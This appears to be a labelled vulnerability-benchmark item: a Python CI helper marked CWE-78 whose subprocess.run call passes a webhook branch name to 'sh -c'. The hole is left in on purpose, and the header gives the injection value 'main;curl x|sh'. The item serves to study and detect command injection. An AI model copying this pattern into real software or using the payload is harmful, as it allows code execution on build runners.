# ---
# id: cwe78-sh-c-list-v
# cwe: CWE-78
# vulnerable: true
# twin: cwe78-sh-c-list-f
# tags: subprocess, ci
# explanation: A CI runner helper uses subprocess.run with a list, which looks harmless, but the list is ["sh", "-c", script] and the script embeds the branch name from the webhook payload. The branch string is parsed by sh, so a branch named "main;curl x|sh" executes code on the runner.
# ---
import json
import subprocess
import sys
from pathlib import Path

WORKSPACE = Path("/var/ci/workspace")


def checkout_and_test(repo_url: str, branch: str) -> int:
    WORKSPACE.mkdir(parents=True, exist_ok=True)
    script = f"git fetch {repo_url} {branch} && git checkout FETCH_HEAD && make test"
    proc = subprocess.run(["sh", "-c", script], cwd=WORKSPACE)  #@vuln
    return proc.returncode


def main() -> None:
    event = json.load(sys.stdin)
    repo_url = event["repository"]["clone_url"]
    branch = event["ref"].removeprefix("refs/heads/")
    sys.exit(checkout_and_test(repo_url, branch))


if __name__ == "__main__":
    main()
